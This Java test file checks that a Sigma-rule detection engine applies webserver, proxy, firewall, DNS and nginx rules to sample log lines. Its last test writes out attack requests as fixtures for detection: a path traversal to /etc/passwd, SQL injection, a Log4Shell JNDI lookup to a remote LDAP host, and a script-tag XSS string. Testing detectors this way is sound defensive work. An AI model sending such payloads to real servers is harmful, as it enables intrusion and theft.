package org.cresset.detect;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.cresset.Shared;
import org.cresset.rule.Placeholders;
import org.cresset.rule.RuleFiles;
import org.junit.jupiter.api.Test;

/// Rules that ask for fields under the names of Sigma fire on the logs of servers, whose own names are others.
final class TablesAndAccessLogsTest {

    private static String rule(String source, String detection) {
        return """
            title: A rule
            id: 5a7a7a1c-6f0e-4d0c-9f52-3b8c9a9d7a02
            level: high
            logsource:
              %s
            detection:
              condition: sel
              sel:
                %s
            """.formatted(source, detection);
    }

    private static int fired(String source, String detection, String log) {
        Scanned scanned = Scanned.of(Scanned.readings(rule(source, detection)), "", log);
        assertThat(scanned.problems()).isEmpty();
        return scanned.detections().size();
    }

    private static String access(String target) {
        return "192.0.2.7 - - [04/Mar/2026:10:00:00 +0000] \"GET " + target + " HTTP/1.1\" 200 5 \"-\" \"x\"\n";
    }

    @Test
    void a_rule_for_web_servers_sees_the_path_and_the_query() {
        String log = access("/cgi/run?cmd=a");
        assertThat(fired("category: webserver", "cs-uri-query|endswith: /cgi/run?cmd=a", log))
                .isEqualTo(1);
        assertThat(fired("category: webserver", "cs-uri-query|startswith: cmd=", log))
                .isEqualTo(1);
        assertThat(fired("category: webserver", "cs-uri-stem: /cgi/run", log)).isEqualTo(1);
        assertThat(fired("category: webserver", "cs-uri-query: null", access("/a")))
                .isZero();
    }

    @Test
    void a_rule_for_proxies_sees_the_address_whole_and_in_parts() {
        String log = """
            #Fields: date time cs-method cs-uri-scheme cs-host cs-uri-path cs-uri-query cs-uri-extension cs(User-Agent)
            2026-03-04 10:00:01 GET http www.example.org /a.exe ?b exe "Tool 1"
            """;
        for (String asked : List.of(
                "c-uri: http://www.example.org/a.exe?b",
                "c-uri: /a.exe?b",
                "c-uri-extension: exe",
                "cs-host|endswith: .example.org",
                "c-useragent: Tool 1",
                "cs-method: GET")) {
            assertThat(fired("category: proxy", asked, log)).as(asked).isEqualTo(1);
        }
    }

    @Test
    void a_rule_for_firewalls_sees_what_windows_let_through() {
        String log = """
            #Software: Microsoft Windows Firewall
            #Time Format: Local
            #Fields: date time action protocol src-ip dst-ip src-port dst-port
            2026-03-04 10:00:01 ALLOW TCP 10.0.0.9 192.0.2.7 50000 21
            """;
        assertThat(fired("category: firewall", "dst_port: 21\n    blocked: 'false'", log))
                .isEqualTo(1);
        assertThat(fired("category: firewall", "dst_port: 21\n    blocked: 'true'", log))
                .isZero();
    }

    @Test
    void a_rule_for_name_servers_sees_queries_and_answers() {
        String log = """
            3/14/2026 10:02:22 PM 0D0C PACKET  000000E2B5A0 UDP Snd 10.0.0.5 0002 R Q [8081   DR  NOERROR] TXT    (1)a(7)example(3)org(0)
              ANSWER SECTION:
                DATA   IEX now
            """;
        String asked = "query: a.example.org\n    record_type: TXT\n    answer|contains: IEX";
        assertThat(fired("category: dns", asked, log)).isEqualTo(1);
    }

    @Test
    void a_rule_of_words_sees_the_text_of_an_error_log() {
        String log = "2026/03/04 10:00:00 [alert] 7#7: worker process 9 exited on signal 6 (core dumped)\n";
        Scanned scanned = Scanned.of(Scanned.readings(rule("service: nginx", "- exited on signal 6")), "", log);
        assertThat(scanned.detections()).hasSize(1);
    }

    @Test
    void the_rules_of_others_fire_on_requests_written_for_them() {
        String log = access("/index.php?file=../../../etc/passwd")
                + access("/a.php?id=1%20UNION%20SELECT%20x")
                + access("/q?x=${jndi:ldap://192.0.2.9/a}")
                + access("/s?x=<script>alert(1)</script>");
        Scanned scanned = Scanned.of(
                new RuleFiles(Placeholders.NONE).read(Shared.path("sigmahq-2026-08-05/rules/web/webserver_generic")),
                "",
                log);
        assertThat(scanned.problems()).isEmpty();
        assertThat(scanned.detections().stream().map(d -> d.rule().title()).distinct())
                .contains("Path Traversal Exploitation Attempts", "Cross Site Scripting Strings");
    }
}
